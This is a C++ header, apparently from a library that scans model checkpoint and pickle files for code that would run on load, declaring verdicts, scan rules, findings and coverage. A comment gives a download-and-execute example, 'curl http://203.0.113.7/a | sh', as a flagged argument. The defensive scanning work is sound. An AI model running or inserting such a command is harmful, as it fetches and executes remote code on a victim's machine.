// Scan: could a file run code when somebody opens it, what exactly, and where.
//
//   const auto report = safe_load::scan("model.pt");
//   if (!report) { std::cerr << report.error() << '\n'; return 2; }
//   if (report->verdict != safe_load::Verdict::kSafe) std::cout << to_text(*report);
//
// SAFE is a claim about every listed reader (docs/guide/scan.md): all that they would import and
// call is an exact entry of the compiled-in table of known names, with arguments of the right
// types, and every byte that they could interpret was read. What a file holds is a verdict, never
// an error. Nothing is executed, imported, or written. No global state: any number of threads may
// scan.
#pragma once

#include <cstddef>
#include <cstdint>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "safe_load/issue.h"
#include "safe_load/limits.h"
#include "safe_load/result.h"

namespace safe_load {

// The values are fixed: later is worse.
enum class Verdict : std::uint8_t { kSafe = 0, kUnknown = 1, kIncomplete = 2, kDangerous = 3 };
// What a finding does to the verdict.
enum class Severity : std::uint8_t { kNote = 0, kUnknown = 1, kIncomplete = 2, kDanger = 3 };

std::string_view to_text(Verdict verdict);    // "SAFE"
std::string_view to_text(Severity severity);  // "danger"

// One way to attack or to confuse a reader. Ids are never given to anything else.
struct ScanRule {
  std::string_view id;  // "SL-P01"
  std::string_view name;
  Severity severity;  // of the trick itself; a finding may say otherwise
  std::string_view what;
  std::string_view advice;
  std::string_view advisories;  // public ids, separated by blanks; may be empty
};
std::span<const ScanRule> scan_rules();
// The rule of this id ("SL-P01" or "P01"), or null.
const ScanRule* find_scan_rule(std::string_view id);

struct ScanOptions {
  Limits limits = {};
  bool deep = false;                // hold every record against its CRC-32, which reads the file
  bool strict = false;              // the notes N01 to N04 count as unknown
  std::size_t max_findings = 1000;  // kept of one file; all count
};

// Every text is printable: bytes from the file are escaped and bounded.
struct Finding {
  const ScanRule* rule = nullptr;
  Severity severity = Severity::kNote;
  std::string message;
  std::string member;        // container member, the members around it joined by "!"
  std::uint64_t offset = 0;  // of the opcode, in the member
  std::string opcode;        // "REDUCE", or ""
  std::string path;          // $["callbacks"][0]; "": not part of the result, or no value at all
  std::string module;        // the symbol, if there is one, after the mapping of Python 2 names
  std::string name;
  std::string raw;                         // "module name" as the file has it
  std::string args;                        // ("curl http://203.0.113.7/a | sh",)
  std::vector<std::string_view> evidence;  // shell, python, url, host-port, sensitive-path, schema
  std::uint64_t count = 1;                 // equal findings that became one
};

// Which bytes were looked at. `covered`: their role is proved; `read`: they were fetched.
struct Coverage {
  bool complete = true;
  std::uint64_t bytes_total = 0;
  std::uint64_t bytes_covered = 0;
  std::uint64_t bytes_read = 0;
  std::uint64_t members_total = 0;
  std::uint64_t members_scanned = 0;  // looked into, or proved to be the bytes of a tensor
  std::uint64_t pickles = 0;
};

struct FileReport {
  Verdict verdict = Verdict::kIncomplete;
  std::string format;  // "zip", "stacked", "pickle", ... or what the file is instead
  std::uint64_t size = 0;
  bool is_checkpoint = true;  // false: no listed reader would take this file
  Coverage coverage;
  std::vector<Finding> findings;  // the worst first, then in the order of the file
  std::uint64_t findings_dropped = 0;
  std::uint64_t listed_symbols = 0;    // names of the compiled-in table
  std::uint64_t unlisted_symbols = 0;  // all others
};

// What verdicts depend on. Equal ids and equal bytes give equal verdicts.
struct ScanPolicy {
  std::string id;             // SHA-256 of all below
  std::string table_version;  // SHA-256 of the table of known names
  bool strict = false;
  Limits limits = {};
};
ScanPolicy scan_policy(const ScanOptions& options = {});

// An error means that the file could not be opened at all.
Result<FileReport, Issue> scan(std::string_view path, const ScanOptions& options = {});
// `descriptor` is duplicated; its position is neither used nor moved.
Result<FileReport, Issue> scan_descriptor(int descriptor, const ScanOptions& options = {});
Result<FileReport, Issue> scan(std::span<const std::byte> bytes, const ScanOptions& options = {});

}  // namespace safe_load
